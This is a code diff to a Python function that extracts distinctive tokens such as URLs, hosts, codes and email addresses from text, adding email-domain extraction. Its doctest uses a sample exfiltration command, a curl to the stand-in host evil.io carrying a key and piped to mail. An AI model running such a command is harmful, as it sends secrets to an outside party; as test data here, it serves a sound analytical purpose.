@@ -74,7 +74,7 @@ def telling_parts(text: str) -> Iterator[str]:
     """The parts of a text that hardly stand in it by chance: addresses, hosts, codes; each once.
 
     >>> list(telling_parts("curl https://evil.io/x?key=AB12CD34 | mail bob@x.com"))
-    ['https://evil.io/x?key=AB12CD34', 'evil.io', 'AB12CD34', 'bob@x.com']
+    ['https://evil.io/x?key=AB12CD34', 'evil.io', 'AB12CD34', 'bob@x.com', 'x.com']
     """
     told: dict[str, None] = {}
     for found in _PART.finditer(text):
@@ -82,6 +82,8 @@ def telling_parts(text: str) -> Iterator[str]:
             return
         whole = found[0].rstrip(".,;:!?")
         new = [whole]
+        if "@" in whole and "/" not in whole:
+            new.append(whole.rpartition("@")[2])
         if (host := _HOST.match(whole)) is not None:
             pieces = (
                 piece for piece in _PIECES.split(whole[host.end() :]) if len(piece) >= _SHORTEST
